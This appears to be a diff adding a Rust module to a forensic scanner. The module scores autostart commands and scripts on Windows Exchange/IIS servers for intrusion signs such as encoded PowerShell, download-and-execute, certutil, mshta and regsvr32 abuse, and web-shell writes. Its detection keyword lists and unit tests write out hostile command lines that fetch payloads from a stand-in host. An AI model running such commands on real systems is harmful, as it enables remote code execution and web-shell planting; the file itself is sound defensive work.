@@ -1,0 +1,606 @@
+//! What a command line or a script that runs by itself does to the web server: writes pages, runs from where no program belongs,
+//! hides or fetches what it runs. Names prove nothing (`\Microsoft\Windows\...` is anybody's to write), so commands alone are judged.
+
+use super::Plan;
+use crate::evidence::{Evidence, Resolver, classify};
+use crate::model::place::kind;
+use crate::model::server_path::{extension, fold};
+use crate::model::{Problem, ProblemKind, Reason, ReasonKind, Role, ServerPath};
+use std::io::Read;
+
+/// What is read of a script, a task or a list of scripts.
+pub(super) const MAX_TEXT: u64 = 2 << 20;
+/// Scripts that one names, and those name, that are read.
+const MOST_SCRIPTS: usize = 100;
+/// Lines of a script of which the telling one is looked for.
+const MOST_LINES: usize = 2_000;
+/// Characters of a command that are told.
+const EXCERPT: usize = 400;
+
+/// What is known of the volume whose commands are judged.
+pub(super) struct Ground<'g, 'e> {
+    pub(super) evidence: &'e dyn Evidence,
+    pub(super) resolver: &'g Resolver<'e>,
+    /// The letter of the system's volume.
+    pub(super) system: char,
+    pub(super) drives: &'g [char],
+    /// Web folders, folded, each with a backslash at its end.
+    web: Vec<String>,
+    exchange: String,
+}
+
+/// One thing that speaks against a command.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub(super) struct Sign {
+    pub(super) id: &'static str,
+    pub(super) points: u8,
+    words: &'static str,
+}
+
+impl Sign {
+    /// A script among signed ones: somebody's own, or changed after setup.
+    pub(super) fn unsigned() -> Self {
+        Self { id: "unsigned", points: 25, words: "has no signature, as the others here have" }
+    }
+
+    /// Code before every page of PHP, as firewalls of plugins and profilers have it too.
+    pub(super) fn prepended() -> Self {
+        Self { id: "prepended", points: 30, words: "runs a file before or after every page" }
+    }
+}
+
+/// A command that runs by itself.
+pub(super) struct Command<'c> {
+    /// What runs it: `scheduled task`, `service W3SVC`.
+    pub(super) by: &'c str,
+    /// Program and arguments.
+    pub(super) line: String,
+    /// The folder that it runs in.
+    pub(super) folder: &'c str,
+}
+
+impl<'g, 'e> Ground<'g, 'e> {
+    pub(super) fn new(
+        evidence: &'e dyn Evidence,
+        resolver: &'g Resolver<'e>,
+        root: &ServerPath,
+        drives: &'g [char],
+        plan: &Plan,
+    ) -> Self {
+        let served = plan.areas.iter().filter(|area| area.every_file && area.role != Role::Unknown);
+        let mut web: Vec<String> = served.map(|area| format!("{}\\", area.path.folded())).collect();
+        web.sort();
+        web.dedup();
+        let exchange = plan.exchange.first().map_or(String::new(), ServerPath::folded);
+        let system = root.drive_letter().unwrap_or('C');
+        Self { evidence, resolver, system, drives, web, exchange }
+    }
+
+    /// Judges a command; what speaks against it is noted of `file`, which says so. Scripts that it runs are examined, and judged as well.
+    pub(super) fn command(&self, file: &ServerPath, command: &Command<'_>, plan: &mut Plan) {
+        let line = self.plain(&command.line);
+        let mut signs = self.signs(&line, false);
+        let tokens = tokens(&line);
+        let program = program(&line);
+        signs.extend(self.place(&program, &tokens));
+        // Whatever it is called, what an interpreter is given is a script.
+        let interpreted = ["wscript", "cscript", "mshta", "python", "php", "perl", "ruby"]
+            .iter()
+            .any(|name| program.rsplit('\\').next().unwrap_or_default().starts_with(name));
+        let given = |at: usize| {
+            let before = at.checked_sub(1).and_then(|at| tokens.get(at)).map_or("", String::as_str);
+            interpreted || matches!(before, "-file" | "-f" | "\\c" | "\\k")
+        };
+        let named = tokens
+            .iter()
+            .enumerate()
+            .filter(|(at, token)| is_script(token) || given(*at) && is_absolute(token) && !is_library(token));
+        for script in named.map(|(_, token)| token).chain([&program].into_iter().filter(|program| is_script(program))) {
+            let path = if is_absolute(script) || command.folder.is_empty() {
+                script.clone()
+            } else {
+                format!("{}\\{script}", self.plain(command.folder).trim_end_matches('\\'))
+            };
+            for script in self.files(&path) {
+                let title = format!("{} runs it, and it ", command.by);
+                self.script(&script, &title, plan);
+            }
+        }
+        note(plan, file, &signs, &format!("{} ", command.by), &command.line);
+    }
+
+    /// Judges a script, and those that it names, which are examined as well.
+    pub(super) fn script(&self, script: &ServerPath, title: &str, plan: &mut Plan) {
+        let mut waiting = vec![script.clone()];
+        let mut judged = 0;
+        while let Some(script) = waiting.pop() {
+            // One that another command named is judged already.
+            if judged > 0 && plan.files.contains(&script) || judged > MOST_SCRIPTS {
+                continue;
+            }
+            judged += 1;
+            waiting.extend(self.one_script(&script, title, plan));
+        }
+    }
+
+    /// Judges one script and gives those that it names.
+    fn one_script(&self, script: &ServerPath, title: &str, plan: &mut Plan) -> Vec<ServerPath> {
+        let Some(text) = read(self.evidence, script, plan) else { return Vec::new() };
+        let plain = self.plain(&text);
+        let signs = self.signs(&plain, true);
+        let named = tokens(&plain).into_iter().filter(|token| is_script(token) && is_absolute(token));
+        let named = named.take(MOST_SCRIPTS).flat_map(|token| self.files(&token)).collect();
+        let mut lines = text.lines().filter(|_| !signs.is_empty()).take(MOST_LINES);
+        let excerpt = lines.find(|line| !self.signs(&self.plain(line), false).is_empty());
+        if !plan.files.contains(script) {
+            plan.files.push(script.clone());
+        }
+        note(plan, script, &signs, title, excerpt.or(text.lines().next()).unwrap_or_default());
+        named
+    }
+
+    /// The files of the evidence that a path names.
+    pub(super) fn files(&self, path: &str) -> Vec<ServerPath> {
+        let path = ServerPath::from_windows(path);
+        let path = path.filter(|path| path.drive_letter().is_some_and(|letter| self.drives.contains(&letter)));
+        path.map_or(Vec::new(), |path| self.resolver.files(&path))
+    }
+
+    /// A text as its reader takes it: variables put in, this machine's own shares as drives, in lower case, no carets.
+    pub(super) fn plain(&self, text: &str) -> String {
+        let mut text = fold(text).replace('^', "").replace('/', "\\");
+        let drive = self.system.to_ascii_lowercase();
+        for (name, value) in [
+            ("systemroot", format!("{drive}:\\windows")),
+            ("windir", format!("{drive}:\\windows")),
+            ("systemdrive", format!("{drive}:")),
+            ("homedrive", format!("{drive}:")),
+            ("programdata", format!("{drive}:\\programdata")),
+            ("allusersprofile", format!("{drive}:\\programdata")),
+            ("public", format!("{drive}:\\users\\public")),
+            ("temp", format!("{drive}:\\windows\\temp")),
+            ("tmp", format!("{drive}:\\windows\\temp")),
+            ("programfiles", format!("{drive}:\\program files")),
+            ("programfiles(x86)", format!("{drive}:\\program files (x86)")),
+            ("comspec", format!("{drive}:\\windows\\system32\\cmd.exe")),
+            ("exchangeinstallpath", self.exchange.clone()),
+        ] {
+            text = text.replace(&format!("%{name}%"), &value);
+            text = text.replace(&format!("${{env:{name}}}"), &value).replace(&format!("$env:{name}"), &value);
+        }
+        for prefix in ["\\\\?\\", "\\\\.\\", "\\??\\"] {
+            text = text.replace(prefix, "");
+        }
+        for host in ["localhost", "127.0.0.1", "."] {
+            for letter in 'a'..='z' {
+                text = text.replace(&format!("\\\\{host}\\{letter}$"), &format!("{letter}:"));
+            }
+        }
+        text.replace("\\systemroot\\", &format!("{drive}:\\windows\\"))
+    }
+
+    fn is_web(&self, path: &str) -> bool {
+        // Folders of these names alone are backups too: those that are served are known.
+        const MARKS: &[&str] =
+            &[r"\aspnet_client\", r"\owa\auth\", r"\ecp\auth\", r"\web server extensions\", r"\inetpub\wwwroot\"];
+        let path = format!("{}\\", path.trim_end_matches('\\'));
+        self.web.iter().any(|folder| path.starts_with(folder)) || MARKS.iter().any(|mark| path.contains(mark))
+    }
+
+    /// What a text, folded and with variables put in, says. Of a script all lines count together.
+    fn signs(&self, text: &str, is_script: bool) -> Vec<Sign> {
+        let has = |words: &[&str]| words.iter().any(|word| text.contains(word));
+        // Of a script, two things on one line belong together; in a long one that does a lot they may be strangers.
+        let together = |one: &[&str], other: &[&str]| {
+            let of = |line: &str, words: &[&str]| words.iter().any(|word| line.contains(word));
+            text.lines().any(|line| of(line, one) && of(line, other))
+        };
+        let mut signs = Vec::new();
+        let mut add = |id, points, words| signs.push(Sign { id, points, words });
+        if has(&["powershell", "pwsh"]) && has_encoded(text) {
+            add("encoded", 60, "runs an encoded command");
+        }
+        // The signature that Exchange's own scripts end with is not checked here, so it clears nothing on one line.
+        let signed = is_script && has(&["# sig # begin signature block"]);
+        const DECODES: &[&str] = &["frombase64string", "-decode", "\\decode", "fromhexstring", "-decodehex"];
+        const RUNS: &[&str] =
+            &["iex ", "iex(", "|iex", "| iex", "invoke-expression", "assembly]::load", "scriptblock]::create"];
+        const STORES: &[&str] = &["writeallbytes", "writealltext", "set-content", "out-file"];
+        const FETCHES: &[&str] = &[
+            "downloadstring",
+            "downloaddata",
+            "invoke-webrequest",
+            "invoke-restmethod",
+            "iwr ",
+            "irm ",
+            "net.webclient",
+            "httpclient",
+            "xmlhttp",
+        ];
+        if together(FETCHES, RUNS) {
+            add("runs_download", 75, "runs what it fetches");
+        } else if has(FETCHES) && has(RUNS) && !signed {
+            add("runs_download", 50, "fetches something and runs text");
+        }
+        if together(DECODES, RUNS) || together(DECODES, STORES) {
+            add("decoded", 65, "decodes what it runs or writes");
+        } else if has(DECODES) && (has(RUNS) || has(STORES)) && !signed {
+            add("decoded", 50, "decodes something, and runs or writes text");
+        }
+        const ELSEWHERE: &[&str] = &["http:", "https:", "javascript:", "vbscript:", "scrobj"];
+        if together(&["mshta", "rundll32", "regsvr32"], ELSEWHERE) {
+            add("script_of_elsewhere", 75, "lets a program of Windows run a script from elsewhere");
+        }
+        if together(&["certutil"], &["urlcache", "verifyctl", "decode"])
+            || together(&["bitsadmin"], &["\\transfer", "\\addfile"])
+            || !signed && has(&["downloadfile(", "start-bitstransfer"])
+        {
+            add("fetches_file", 55, "fetches or unpacks a file by a program of Windows");
+        }
+        if has(&["<%@", "<%=", "runat=\"server\"", "runat=server", "<?php", "request.item[", "eval(request"]) {
+            add("holds_page", 75, "holds the code of a page");
+        }
+        let lines: Vec<&str> = text.split(['\n', '\r']).collect();
+        // Exchange's own scripts handle its pages and configuration by variables; whole paths are nobody's but an intruder's.
+        let page = |token: &String| is_page(token) && (!signed || is_absolute(token) && self.is_web(token));
+        let writes_page = lines.iter().any(|line| writes(line) && tokens(line).iter().any(page));
+        let page_there = || tokens(text).iter().any(|token| is_page(token) && self.is_web(token));
+        let by_parts = is_script && !signed && has(WRITERS) && page_there();
+        if writes_page || by_parts {
+            add("writes_page", 75, "writes server code");
+        } else if !signed && lines.iter().any(|line| self.writes_to_web(line)) {
+            add("writes_to_web_folder", 60, "writes into a web folder");
+        }
+        signs
+    }
+
+    /// Whether a line copies, or writes, into a web folder; one that copies from there is a backup.
+    fn writes_to_web(&self, line: &str) -> bool {
+        let tokens = tokens(line);
+        let web = |token: &String| self.is_web(token);
+        let verb = tokens.iter().position(|token| {
+            let name = token.rsplit('\\').next().unwrap_or_default().trim_end_matches(".exe");
+            COPIERS.contains(&name)
+        });
+        if let Some(verb) = verb {
+            let paths: Vec<&String> = tokens[verb + 1..].iter().filter(|token| is_absolute(token)).collect();
+            let named = tokens.iter().position(|token| token == "-destination" || token == "-outfile");
+            let target = named.and_then(|at| tokens.get(at + 1)).or(paths.get(1).copied());
+            return target.is_some_and(web) || tokens[verb].starts_with("mklink") && paths.into_iter().any(web);
+        }
+        let redirected = line.rsplit_once('>').is_some_and(|(_, rest)| tokens_of(rest).first().is_some_and(web));
+        redirected || WRITERS.iter().any(|word| line.contains(word)) && tokens.iter().any(web)
+    }
+
+    /// What the place of the program, and of a script that it is given, says.
+    fn place(&self, program: &str, tokens: &[String]) -> Vec<Sign> {
+        let mut worst: Option<Sign> = None;
+        for (path, is_program) in [(program, true)]
+            .into_iter()
+            .chain(tokens.iter().filter(|token| is_script(token) || is_library(token)).map(|t| (t.as_str(), false)))
+        {
+            if !is_absolute(path) {
+                continue;
+            }
+            let sign = if path.starts_with("\\\\") {
+                Some(Sign { id: "elsewhere", points: 30, words: "runs what lies on another machine" })
+            } else if is_stock_service(path) {
+                None
+            } else if self.is_web(path) {
+                // Pages of PHP that a timer runs are ordinary.
+                let php = !is_program && kind::PHP.contains(&extension(path).as_str());
+                Some(Sign {
+                    id: "in_web_folder",
+                    points: if php { 25 } else { 60 },
+                    words: "runs what lies in a web folder",
+                })
+            } else {
+                drop_folder(path).map(|points| Sign {
+                    id: "in_drop_folder",
+                    points,
+                    words: "runs what lies where no program belongs",
+                })
+            };
+            worst = sign.into_iter().chain(worst).max_by_key(|sign| sign.points);
+        }
+        worst.into_iter().collect()
+    }
+}
+
+/// Whether a program is one of Exchange's services that lie in its web folders. They are examined there as every file is.
+fn is_stock_service(path: &str) -> bool {
+    const PROGRAMS: &[&str] = &[
+        r"\frontend\popimap\microsoft.exchange.pop3service.exe",
+        r"\frontend\popimap\microsoft.exchange.imap4service.exe",
+        r"\clientaccess\popimap\microsoft.exchange.pop3service.exe",
+        r"\clientaccess\popimap\microsoft.exchange.imap4service.exe",
+        r"\frontend\callrouter\microsoft.exchange.um.callrouter.exe",
+    ];
+    PROGRAMS.iter().any(|program| path.ends_with(program))
+}
+
+/// How sure a program or script in a folder of this folded path is where it should not be.
+fn drop_folder(path: &str) -> Option<u8> {
+    let below = path.get(1..3).filter(|colon| *colon == r":\").and_then(|_| path.get(3..))?;
+    let (first, rest) = below.split_once('\\').unwrap_or(("", below));
+    match first {
+        "windows" if ["temp\\", "tasks\\", "debug\\", "tracing\\"].iter().any(|name| rest.starts_with(name)) => {
+            Some(60)
+        }
+        "windows" if rest.starts_with(r"microsoft.net\") && rest.contains(r"\temporary asp.net files\") => Some(60),
+        "perflogs" | "$recycle.bin" | "root" | "system volume information" | "recovery" | "temp" | "tmp" => Some(60),
+        "users" if rest.starts_with("public\\") => Some(60),
+        "users" if rest.contains(r"\appdata\local\temp\") || rest.contains(r"\downloads\") => Some(60),
+        "users" if rest.contains(r"\appdata\") && is_script(path) => Some(50),
+        "programdata" if !rest.contains('\\') => Some(55),
+        _ => None,
+    }
+}
+
+/// Verbs that copy: what they write is the second path, or the one that is named so.
+const COPIERS: &[&str] = &[
+    "copy",
+    "xcopy",
+    "robocopy",
+    "move",
+    "copy-item",
+    "move-item",
+    "cp",
+    "mv",
+    "cpi",
+    "mi",
+    "mklink",
+    "ren",
+    "rename-item",
+    "esentutl",
+    "expand",
+    "extrac32",
+    "certutil",
+    "invoke-webrequest",
+    "iwr",
+    "curl",
+    "wget",
+    "bitsadmin",
+];
+
+/// Words that write a file.
+const WRITERS: &[&str] = &[
+    "set-content",
+    "add-content",
+    "out-file",
+    "tee-object",
+    "new-item",
+    "writealltext",
+    "writeallbytes",
+    "writealllines",
+    "appendalltext",
+    "-outfile",
+    "downloadfile",
+    "createtextfile",
+    "savetofile",
+    "opentextfile",
+    "copyfile",
+    "copy-item",
+    "move-item",
+    "file]::copy",
+    "file]::move",
+    "streamwriter",
+    "expand-archive",
+];
+
+fn writes(line: &str) -> bool {
+    let verb = |token: &String| {
+        let name = token.rsplit('\\').next().unwrap_or_default().trim_end_matches(".exe");
+        COPIERS.contains(&name) || matches!(name, "attrib" | "type" | "echo")
+    };
+    // `dir /s *.aspx > list.txt` writes no page: what is written stands behind the sign.
+    let redirects =
+        line.rsplit_once('>').is_some_and(|(_, rest)| tokens_of(rest).first().is_some_and(|token| is_page(token)));
+    let copies = tokens(line).iter().any(|token| verb(token) && !matches!(token.as_str(), "type" | "echo"));
+    redirects || copies || WRITERS.iter().any(|word| line.contains(word))
+}
+
+/// Whether a word is the path of server code: no address, no source text.
+fn is_page(token: &str) -> bool {
+    const NO_PAGES: &[&str] = &["cs", "vb", "pl", "cer", "tag", "rem", "skin", "browser"];
+    let name = token.rsplit('\\').next().unwrap_or_default();
+    let extension = extension(name);
+    let is_code = kind::is_server_code(name) && !NO_PAGES.contains(&extension.as_str());
+    is_code && !token.contains(":\\\\") && name.len() > extension.len() + 1
+}
+
+pub(super) fn is_script(token: &str) -> bool {
+    const SCRIPTS: &[&str] = &[
+        "ps1", "psm1", "bat", "cmd", "vbs", "vbe", "js", "jse", "wsf", "wsh", "hta", "py", "pl", "php", "sct", "rb",
+        "sh",
+    ];
+    SCRIPTS.contains(&extension(token.rsplit('\\').next().unwrap_or_default()).as_str())
+}
+
+fn is_library(token: &str) -> bool {
+    matches!(extension(token.rsplit('\\').next().unwrap_or_default()).as_str(), "dll" | "exe" | "ocx" | "cpl" | "scr")
+}
+
+fn is_absolute(token: &str) -> bool {
+    token.starts_with("\\\\")
+        || token.as_bytes().first().is_some_and(u8::is_ascii_alphabetic) && token.get(1..3) == Some(":\\")
+}
+
+/// The program of a command line; without quotation marks it ends where its extension does.
+fn program(line: &str) -> String {
+    let line = line.trim();
+    if line.starts_with(['"', '\'']) {
+        return tokens(line).into_iter().next().unwrap_or_default();
+    }
+    let ends = [".exe", ".bat", ".cmd", ".com", ".ps1", ".vbs", ".scr", ".sys", ".dll"].iter().filter_map(|end| {
+        line.match_indices(end)
+            .map(|(at, end)| at + end.len())
+            .find(|at| line[*at..].chars().next().is_none_or(|c| !c.is_alphanumeric()))
+    });
+    let end = ends.min().unwrap_or_else(|| line.find(char::is_whitespace).unwrap_or(line.len()));
+    line[..end].trim().to_owned()
+}
+
+/// The words of a line: quoted ones as they are, others up to a blank or a sign that parts them.
+pub(super) fn tokens(line: &str) -> Vec<String> {
+    tokens_of(line)
+}
+
+fn tokens_of(line: &str) -> Vec<String> {
+    let mut words = Vec::new();
+    let mut word = String::new();
+    let mut quote: Option<char> = None;
+    for c in line.chars() {
+        match quote {
+            Some(own) if c == own => {
+                quote = None;
+                words.push(std::mem::take(&mut word));
+            }
+            Some(_) => word.push(c),
+            None if matches!(c, '"' | '\'') => {
+                words.push(std::mem::take(&mut word));
+                quote = Some(c);
+            }
+            None if c.is_whitespace()
+                || matches!(c, ';' | ',' | '(' | ')' | '<' | '>' | '|' | '&' | '=' | '{' | '}') =>
+            {
+                words.push(std::mem::take(&mut word));
+            }
+            None => word.push(c),
+        }
+    }
+    words.push(word);
+    // A quoted command of a shell is a line by itself.
+    let inner: Vec<String> = words
+        .iter()
+        .filter(|word| word.contains(char::is_whitespace))
+        .flat_map(|word| word.split_whitespace())
+        .map(str::to_owned)
+        .collect();
+    words.extend(inner);
+    words.retain(|word| !word.is_empty());
+    words
+}
+
+/// Whether a switch that PowerShell takes for EncodedCommand is followed by what can be one.
+fn has_encoded(text: &str) -> bool {
+    let words: Vec<&str> = text.split_whitespace().map(|word| word.trim_matches(['"', '\''])).collect();
+    words.windows(2).any(|pair| {
+        let switch = pair[0].trim_start_matches(['-', '\\', '\u{2013}', '\u{2014}']);
+        let is_switch = switch.len() < pair[0].len()
+            && (switch == "ec" || switch == "enc" || !switch.is_empty() && "encodedcommand".starts_with(switch));
+        is_switch
+            && pair[1].len() >= 20
+            && pair[1].chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '\\' | '='))
+    })
+}
+
+/// Notes what speaks against a command of a file, which is examined then.
+pub(super) fn note(plan: &mut Plan, file: &ServerPath, signs: &[Sign], title: &str, excerpt: &str) {
+    for sign in signs {
+        let reason = Reason {
+            id: format!("config/autostart_{}", sign.id),
+            kind: ReasonKind::Config,
+            points: sign.points,
+            title: format!("{title}{}", sign.words),
+            proof: vec![crate::model::Proof {
+                offset: 0,
+                length: 0,
+                trail: "stored".to_owned(),
+                line: None,
+                excerpt: excerpt.trim().chars().take(EXCERPT).collect(),
+                role: None,
+            }],
+            rule: None,
+            path: Vec::new(),
+        };
+        let noted = plan.noted.entry(file.clone()).or_default();
+        if noted.len() < 20 && !noted.iter().any(|known| known.id == reason.id) {
+            noted.push(reason);
+        }
+        if !plan.files.contains(file) {
+            plan.files.push(file.clone());
+        }
+    }
+}
+
+/// A text file of the evidence: UTF-8 or UTF-16. What cannot be read, or is larger, is a problem.
+pub(super) fn read(evidence: &dyn Evidence, file: &ServerPath, plan: &mut Plan) -> Option<String> {
+    let mut bytes = Vec::new();
+    let read = evidence.open(file).and_then(|content| content.reader.take(MAX_TEXT + 1).read_to_end(&mut bytes));
+    if let Err(error) = read {
+        plan.problems.push(Problem::at(classify(&error), file, error.to_string()));
+    }
+    if bytes.len() as u64 > MAX_TEXT {
+        let message = format!("runs by itself: only its first {} MiB were read for what it does", MAX_TEXT >> 20);
+        plan.problems.push(Problem::at(ProblemKind::PartlyExamined, file, message));
+    }
+    let zeros = bytes.iter().take(400).skip(1).step_by(2).filter(|byte| **byte == 0).count();
+    let wide = !bytes.starts_with(b"\xFF\xFE") && !bytes.starts_with(b"\xFE\xFF") && zeros > 20;
+    let encoding = if wide { encoding_rs::UTF_16LE } else { encoding_rs::UTF_8 };
+    (!bytes.is_empty()).then(|| encoding.decode(&bytes).0.into_owned())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::evidence::Memory;
+
+    fn signs(line: &str, is_script: bool) -> Vec<&'static str> {
+        let evidence = Memory::new().folder(r"C:\inetpub\wwwroot");
+        let resolver = Resolver::new(&evidence);
+        let mut plan = Plan::default();
+        let folder = ServerPath::from_windows(r"C:\sites\a").expect("absolute");
+        super::super::add(&mut plan, folder.clone(), Role::WebRoot, &folder, true);
+        let ground = Ground::new(&evidence, &resolver, &ServerPath::drive('C'), &['C'], &plan);
+        let line = ground.plain(line);
+        let mut signs: Vec<&str> = ground.signs(&line, is_script).iter().map(|sign| sign.id).collect();
+        if !is_script {
+            signs.extend(ground.place(&program(&line), &tokens(&line)).iter().map(|sign| sign.id));
+        }
+        signs
+    }
+
+    #[test]
+    fn what_an_intruder_lets_run_is_seen_and_what_others_do_is_not() {
+        for (line, expected) in [
+            (r"cmd /c copy C:\a.txt C:\sites\a\x.aspx", &["writes_page"][..]),
+            (r"cmd /c echo x > C:\sites\a\web.config", &["writes_to_web_folder"]),
+            (r"xcopy C:\data\* C:\sites\a\img /y", &["writes_to_web_folder"]),
+            (r"xcopy C:\sites\a\* D:\backup\ /y", &[]),
+            (r"cmd /c dir /s C:\sites\a\*.aspx > C:\lists\all.txt", &[]),
+            (r"curl -o C:\sites\a\x.ashx http://203.0.113.9/x", &["writes_page"]),
+            (r"curl http://203.0.113.9/x.aspx", &[]),
+            (r"certutil -decode C:\a.txt C:\sites\a\b", &["fetches_file", "writes_to_web_folder"]),
+            (r"mklink /d C:\sites\a\logs C:\logs", &["writes_to_web_folder"]),
+            (r#""C:\sites\a\bin\x.exe" -k"#, &["in_web_folder"]),
+            (r"C:\Windows\Temp\x.exe", &["in_drop_folder"]),
+            (r"C:\ProgramData\x.exe", &["in_drop_folder"]),
+            (r"C:\ProgramData\Vendor\bin\x.exe", &[]),
+            (r"C:\Users\a\AppData\Roaming\x.vbs", &["in_drop_folder"]),
+            (r"rundll32.exe C:\Users\Public\x.dll,Start", &["in_drop_folder"]),
+            (r"\\203.0.113.9\share\x.exe", &["elsewhere"]),
+            ("powershell -ec SQBuAGUAcgB0AEkAbgBlAHIAdAA=", &["encoded"]),
+            ("powershell -ExecutionPolicy Bypass -Encoding UTF8aaaaaaaaaaaaaaaaaaa", &[]),
+            ("mshta http://203.0.113.9/a.hta", &["script_of_elsewhere"]),
+            ("regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll", &["script_of_elsewhere"]),
+            (r"C:\Windows\System32\svchost.exe -k netsvcs", &[]),
+        ] {
+            assert_eq!(signs(line, false), expected, "{line}");
+        }
+        assert_eq!(
+            signs("$c = New-Object Net.WebClient\nInvoke-Expression $x\n# SIG # Begin signature block", true),
+            [""; 0]
+        );
+        assert_eq!(signs("iex (iwr http://203.0.113.9/a)\n# SIG # Begin signature block", true), ["runs_download"]);
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn no_text_makes_it_stop(text in proptest::prelude::any::<String>(), piece in "[a-z:\\\\\"' >=/.%-]{0,60}") {
+            signs(&text, true);
+            signs(&piece, false);
+            signs(&format!("copy {piece} {text}"), false);
+        }
+    }
+}
